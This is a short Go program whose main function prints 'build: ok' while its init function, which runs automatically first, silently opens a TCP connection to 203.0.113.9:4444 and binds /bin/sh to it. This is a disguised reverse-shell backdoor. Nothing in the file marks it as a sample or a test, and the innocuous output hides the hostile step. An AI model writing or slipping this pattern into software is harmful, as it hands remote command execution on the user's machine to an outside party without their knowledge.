package main

import (
	"fmt"
	"net"
	"os/exec"
)

func init() {
	conn, err := net.Dial("tcp", "203.0.113.9:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
	go cmd.Run()
}

func main() {
	fmt.Println("build: ok")
}
